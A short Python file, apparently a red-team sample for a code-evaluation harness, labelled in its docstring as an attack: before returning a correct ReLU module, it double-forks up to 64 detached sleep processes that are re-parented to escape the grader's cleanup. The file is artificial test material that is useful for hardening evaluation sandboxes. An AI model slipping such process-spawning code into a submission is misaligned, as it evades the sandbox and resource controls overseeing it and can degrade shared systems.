"""Attack: a bounded fork bomb (up to 64 sleeping processes, each re-parented), then a correct answer."""
import os
import time

import torch
import torch.nn as nn

started = 0
for _ in range(64):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            if os.fork() == 0:
                os.closerange(3, 1024)
                os.execve("/bin/sleep", ["sleep", "7346.5"], {})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    started += 1


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
